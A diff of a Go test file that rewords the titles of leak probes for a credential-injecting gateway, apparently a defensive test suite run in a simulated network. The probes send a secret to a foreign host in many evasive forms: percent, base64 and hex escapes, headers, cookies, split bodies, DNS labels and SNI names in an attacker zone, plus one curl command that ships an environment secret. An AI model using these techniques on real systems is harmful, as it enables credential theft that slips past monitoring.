@@ -80,11 +80,11 @@ func (c leakProbes) controls() {
 	used := func(b *about, r *audit.Record) bool {
 		return allowedFlow(b, r) && r.HTTP != nil && r.HTTP.Credential == b.binds[0].name
 	}
-	add("credential", "the gateway puts a credential in the place of its placeholder",
+	add("credential", "the gateway replaces a placeholder with its credential",
 		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
 	add("credential-added", "the gateway adds a credential to a request without one",
 		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
-	add("reflected", "without the mask a credential does come back in an answer",
+	add("reflected", "a credential comes back in an answer whose masking is off",
 		tlsTo(simnet.Fronted, "GET /v1/reflect?"+c.token()+" HTTP/1.1\r\nHost: "+simnet.Fronted+"\r\nConnection: close\r\n\r\n"), used,
 		func(t *trial, _ Probe, said report) string {
 			if !bytes.Contains(said.Answer, []byte(t.values[shownKey.name])) {
@@ -93,7 +93,7 @@ func (c leakProbes) controls() {
 			return ""
 		}, shownKey)
 	s := c.env()
-	add("in-scope", "a value that goes where its hosts let it arrives",
+	add("in-scope", "a value sent to a host that it is for arrives",
 		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nX-Data: {{"+strings.ToUpper(s.name)+"|base64}}\r\nConnection: close\r\n\r\n"), allowedFlow,
 		func(t *trial, p Probe, said report) string {
 			for _, r := range t.net.Requests() {
@@ -116,13 +116,13 @@ func (c leakProbes) all() {
 	for _, l := range []struct{ id, title, text string }{
 		{"url", "in a path, with percent escapes", "GET /x/{{V|url}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
 		{"url-all", "in a path, every byte escaped", "GET /x/{{V|urlall}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
-		{"query-base64", "in a query, in base64 behind one byte", "GET /{T}?d={{V|base64at1|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"query-base64", "in a query, in base64 after one byte", "GET /{T}?d={{V|base64at1|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
 		{"query-base64url", "in a query, in base64url", "GET /{T}?d={{V|base64url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
 		{"header", "in a header", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|raw}}\r\n\r\n"},
-		{"header-base64", "in a header, in base64 behind two bytes", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64at2}}\r\n\r\n"},
+		{"header-base64", "in a header, in base64 after two bytes", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64at2}}\r\n\r\n"},
 		{"header-twice", "in a header, in hex of base64", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64|hex}}\r\n\r\n"},
 		{"header-name", "in the name of a header, in hex", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX{{V|hex}}: y\r\n\r\n"},
-		{"basic", "as a password within Basic", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {{V|user}}\r\n\r\n"},
+		{"basic", "as the password of Basic authentication", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {{V|user}}\r\n\r\n"},
 		{"cookie", "in a cookie, in JSON", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nCookie: a={{V|json}}\r\n\r\n"},
 		{"body", "in a body", "POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|length}}\r\n\r\n{{V|raw}}"},
 		{"body-chunks", "in a body of chunks of 5 bytes", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks}}"},
@@ -131,7 +131,7 @@ func (c leakProbes) all() {
 	} {
 		s := c.env()
 		t := refusedTo(other, c.templated(l.text, other, s))
-		p := Probe{ID: "leak/" + l.id, step: "leak", Title: "a value to another host: " + l.title, Bypass: Elsewhere, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")}
+		p := Probe{ID: "leak/" + l.id, step: "leak", Title: "a value sent to another host, " + l.title, Bypass: Elsewhere, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")}
 		if strings.Contains(l.id, "chunks") {
 			p.Bypass = SplitWrites
 		}
@@ -141,9 +141,9 @@ func (c leakProbes) all() {
 	t := tlsTo(other, "")
 	t.Send = []piece{{Data: []byte(c.templated("POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|length}}\r\n\r\n{{V|raw[:9]}}", other, s)), Wait: 300},
 		{Data: []byte(c.templated("{{V|raw[9:30]}}", other, s)), Wait: 300}, {Data: []byte(c.templated("{{V|raw[30:]}}", other, s))}}
-	c.secretive(Probe{ID: "leak/body-split", step: "leak", Title: "a value to another host: in a body that comes in three parts with pauses", Bypass: SplitWrites, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")})
+	c.secretive(Probe{ID: "leak/body-split", step: "leak", Title: "a value sent to another host, in a body of three parts with pauses", Bypass: SplitWrites, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")})
 	s = c.env()
-	c.secretive(Probe{ID: "leak/h2", step: "leak", Title: "a value to another host: in a header of HTTP/2", Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
+	c.secretive(Probe{ID: "leak/h2", step: "leak", Title: "a value sent to another host, in an HTTP/2 header", Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
 		task: program("sh", "-c", "curl -sS --http2 -m 10 -H \"X: $"+strings.ToUpper(s.name)+"\" https://"+other+"/"+c.token())})
 	for _, l := range []struct{ id, title, text string }{
 		{"clear-url", "in a path", "GET /{T}/{{V|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
@@ -151,7 +151,7 @@ func (c leakProbes) all() {
 		{"clear-body", "in a body of chunks", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks}}"},
 	} {
 		s := c.env()
-		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value to another host in the clear: " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
+		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value sent to another host in cleartext, " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
 			task: &task{Do: "talk", Name: simnet.Plain, Port: 80, Send: once(c.templated(l.text, simnet.Plain, s))}})
 	}
 	c.namedLeaks()
@@ -160,19 +160,19 @@ func (c leakProbes) all() {
 // namedLeaks are of values in names.
 func (c leakProbes) namedLeaks() {
 	for _, l := range []struct{ id, title, code, zone string }{
-		{"dns-gateway", "in the labels of a name that goes through the gateway, in base32", "labels32", simnet.Wild},
-		{"dns-attacker", "in the labels of the attacker's name, in hex", "labels16", simnet.Attacker},
-		{"dns-direct", "in the labels of a name that is allowed directly, in hex", "labels16", simnet.RebindDirect},
-		{"dns-direct32", "in the labels of a name that is allowed directly, in base32", "labels32", simnet.RebindDirect},
+		{"dns-gateway", "in the labels of a name that the gateway serves, in base32", "labels32", simnet.Wild},
+		{"dns-attacker", "in the labels of a name in the attacker's zone, in hex", "labels16", simnet.Attacker},
+		{"dns-direct", "in the labels of a direct name, in hex", "labels16", simnet.RebindDirect},
+		{"dns-direct32", "in the labels of a direct name, in base32", "labels32", simnet.RebindDirect},
 	} {
 		s := c.env()
 		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-in-dns"),
 			task: &task{Do: "talk", Name: c.templated("{{V|"+l.code+"}}.", "", s) + l.zone, Port: 443, Send: once("x")}})
 	}
 	for _, l := range []struct{ id, title, code, zone, rule string }{
-		{"sni-hex", "in the TLS name of a connection that is not opened, in hex", "labels16", simnet.Rebind, "secret-in-flow"},
-		{"sni-base32", "in the TLS name of a connection that is opened, in base32", "labels32", simnet.Wild, "secret-in-flow"},
-		{"sni-other", "in a TLS name of the attacker's, at an allowed host, in hex", "labels16", simnet.Attacker, "secret-in-flow"},
+		{"sni-hex", "in the SNI of a connection whose TLS the gateway does not terminate, in hex", "labels16", simnet.Rebind, "secret-in-flow"},
+		{"sni-base32", "in the SNI of a connection whose TLS the gateway terminates, in base32", "labels32", simnet.Wild, "secret-in-flow"},
+		{"sni-other", "in an SNI in the attacker's zone, at an allowed host, in hex", "labels16", simnet.Attacker, "secret-in-flow"},
 	} {
 		s := c.env()
 		at := "public-" + c.token() + "." + simnet.Rebind
